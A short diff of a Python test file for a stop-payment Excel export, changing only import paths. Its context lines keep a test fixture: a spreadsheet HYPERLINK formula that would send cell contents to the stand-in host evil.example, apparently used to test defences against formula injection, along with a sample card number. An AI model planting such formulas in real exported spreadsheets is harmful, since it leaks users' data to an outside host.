@@ -9,10 +9,10 @@ import stat
 import pytest
 from openpyxl import load_workbook
 
-from console.models import stoppay
-from console.models.call_source import manual_call
-from console.models.calls import start_call
-from console.models.stoppay_export import export_again, issue_and_export
+from console.models.stoppay import requests as stoppay
+from console.models.calls.source import manual_call
+from console.models.calls.records import start_call
+from console.models.stoppay.export import export_again, issue_and_export
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 CARD = "6217001234567890122"          # CCB, valid Luhn
